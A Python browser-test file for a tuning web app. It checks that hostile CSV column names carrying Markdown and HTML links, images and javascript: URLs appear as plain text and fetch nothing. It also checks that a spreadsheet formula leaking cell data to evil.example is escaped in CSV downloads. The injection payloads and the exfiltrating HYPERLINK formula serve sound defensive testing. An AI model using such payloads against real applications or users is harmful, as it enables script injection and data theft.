"""A hostile CSV name in a real browser: shown as text, never a link, never a fetched image.

Issue 15.7: a target named like ``HOSTILE`` made every viewer's tooltips fetch an image
from the named host, and chart titles carry a ``javascript:`` link. A local HTTP server
stands in for that host and counts what the browser asks of it.
"""

from __future__ import annotations

import csv
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.charts import live_chart
from tests.fake_runs import make_run
from tests.runs_helpers import quick_spec
from tuning import Actor, annotate_trial

pytestmark = pytest.mark.browser


class ImageHost(ThreadingHTTPServer):
    """Answers every GET with nothing and remembers the paths asked for."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        host = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the http.server API)
                host.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def image_host() -> Iterator[ImageHost]:
    host = ImageHost()
    threading.Thread(target=host.serve_forever, daemon=True).start()
    yield host
    host.shutdown()
    host.server_close()


def hostile(host: ImageHost) -> str:
    """A name with a Markdown link and image and an HTML link and image, the images on ``host``."""
    return (
        f"**x**[a](javascript:alert(1))![i]({host.url}/md.png)"
        f"<a href=javascript:alert(2)>h</a><img src={host.url}/html.png>"
    )


def assert_no_link_or_fetch(page: Page, host: ImageHost) -> None:
    page.wait_for_timeout(1500)  # time for any image the page would load
    assert host.hits == []
    for frame in page.frames:  # the charts are drawn in the component's iframe
        assert frame.locator('a[href^="javascript"], img[src*="127.0.0.1"]').count() == 0, frame.url


def test_a_hostile_target_on_the_monitor_fetches_nothing(
    new_page: Callable[[str], Page], server: SimpleNamespace, image_host: ImageHost
) -> None:
    name = hostile(image_host)
    make_run(server.storage, "hostile-target", 6, spec=quick_spec(dataset={"name": "csv", "target": name}))
    page = new_page("monitor?run=hostile-target")
    expect(page.get_by_test_id("stException")).to_have_count(0)
    for key in ("history", "curves", "parallel"):  # drawn, axis titles and all (plotly.js is
        expect(live_chart(page, key)).to_be_visible(timeout=90_000)  # 4 MB: slow on busy cores)
    metrics = page.get_by_test_id("stMetric").filter(has_text="MSE")  # best and test
    expect(metrics).to_have_count(2)
    shown = []
    for index in range(2):  # their help names the target: shown on hover
        metrics.nth(index).get_by_test_id("stTooltipHoverTarget").hover()
        tooltip = page.get_by_test_id("stTooltipContent").last
        expect(tooltip).to_contain_text("validation MSE")
        shown.append(tooltip.inner_text())
    assert_no_link_or_fetch(page, image_host)
    assert all("[a](javascript:alert(1))" in text for text in shown), shown  # the name, as it is


def test_a_hostile_column_in_a_launch_error_fetches_nothing(
    new_page: Callable[[str], Page], image_host: ImageHost
) -> None:
    rows = "".join(f"{i},5.5\n" for i in range(10))  # a constant target: refused, naming it
    page = new_page("launch")
    # The page's first run still drawing would draw the list again and close it under the
    # pointer (seen once under two busy loops): open it once that run has drawn its last
    # element, Start, and ended ("notRunning" alone also holds before the run begins).
    expect(page.get_by_role("button", name="Start", exact=True)).to_be_visible()
    expect(page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]')).to_have_count(1)
    page.get_by_test_id("stSelectbox").filter(has_text="Dataset").click()
    page.get_by_role("option", name="Upload a CSV file").click()
    page.locator('input[type="file"]').set_input_files(
        files=[
            {
                "name": "h.csv",
                "mimeType": "text/csv",
                "buffer": f"size,{hostile(image_host)}\n{rows}".encode(),
            }
        ]
    )
    error = page.get_by_test_id("stAlertContentError").filter(has_text="holds one value only")
    expect(error).to_contain_text("![i](http://127.0.0.1")  # the name, character for character
    expect(page.get_by_test_id("stException")).to_have_count(0)
    assert_no_link_or_fetch(page, image_host)


def test_a_formula_in_a_trial_note_downloads_as_text(
    new_page: Callable[[str], Page], server: SimpleNamespace, tmp_path: Path
) -> None:
    """Issue 23.3: a visitor's note reached another visitor's trials CSV as a live formula."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    make_run(server.storage, "noted", 3)
    annotate_trial("noted", 1, formula, Actor(server.storage))
    page = new_page("monitor?run=noted")
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(live_chart(page, "history")).to_be_visible(timeout=90_000)  # the page has run: the
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0)  # button's file is registered
    with page.expect_download() as download:
        page.get_by_role("button", name="Download trials (CSV)").click()
    path = tmp_path / "trials.csv"
    download.value.save_as(path)
    rows = list(csv.DictReader(path.open(newline="")))
    assert [row["note"] for row in rows] == ["", "'" + formula, ""]
    assert all(not cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row.values())
